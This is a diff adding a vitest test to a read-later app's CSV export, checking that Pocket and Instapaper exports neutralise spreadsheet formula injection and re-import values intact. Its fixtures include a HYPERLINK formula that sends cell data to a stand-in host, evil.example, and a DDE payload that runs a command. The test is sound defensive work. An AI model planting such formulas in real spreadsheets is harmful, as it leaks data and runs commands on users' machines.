@@ -2,7 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { JSDOM } from 'jsdom';
 import { unzipSync, strFromU8 } from 'fflate';
 import { exportMarkdownZip, exportMarkdownSingle } from './markdown';
-import { exportPocketCsv, csvField } from './csv';
+import { exportInstapaperCsv, exportPocketCsv, csvField } from './csv';
+import { parseImport } from '../import';
 import { exportNetscape } from './netscape';
 import { safeFileName } from './filenames';
 import { sampleArticle } from '../sample';
@@ -51,6 +52,36 @@ describe('CSV and bookmarks exports', () => {
     const a = { ...sampleArticle(1), title: 'Talks, "resumed"', tags: ['a', 'b c'], read: true };
     const csv = exportPocketCsv([a], NOW).data as string;
     expect(csv.split('\r\n')).toEqual(['title,url,time_added,tags,status', `"Talks, ""resumed""",${a.url},${Math.floor(a.savedAt / 1000)},a|b c,archive`, '']);
+  });
+
+  it('defuses cells a spreadsheet would run as formulas, and Sift reads them back unchanged', () => {
+    const hostile = {
+      ...sampleArticle(3),
+      title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      excerpt: '@SUM(1+1)*cmd|" /C calc"!A0',
+      tags: ['+tag', 'news'],
+    };
+    const plain = { ...sampleArticle(4), title: '-5 °C in Oslo tonight', tags: [] };
+    const pocket = exportPocketCsv([hostile, plain], NOW).data as string;
+    const lines = pocket.split('\r\n');
+    expect(lines[1]).toMatch(/^"'=HYPERLINK\(/);
+    expect(lines[1]).toContain(",'+tag|news,");
+    expect(lines[2]).toMatch(/^'-5 °C in Oslo tonight,/);
+    const insta = exportInstapaperCsv([hostile], NOW).data as string;
+    expect(insta.split('\r\n')[1]).toContain(`,"'=HYPERLINK(`);
+    expect(insta.split('\r\n')[1]).toContain(`,"'@SUM(1+1)`);
+    // No cell of either file starts like a formula.
+    for (const csv of [pocket, insta]) {
+      for (const line of csv.split('\r\n').slice(1, -1)) {
+        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g)!) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+    const back = parseImport(new TextEncoder().encode(pocket), NOW).articles;
+    expect(back.map((a) => a.title)).toEqual([hostile.title, plain.title]);
+    expect(back[0]!.tags).toEqual(['+tag', 'news']);
+    const back2 = parseImport(new TextEncoder().encode(insta), NOW).articles;
+    expect(back2[0]!.title).toBe(hostile.title);
+    expect(back2[0]!.excerpt).toBe(hostile.excerpt);
   });
 
   it('writes a Netscape file with ADD_DATE, TAGS and escaped titles', () => {
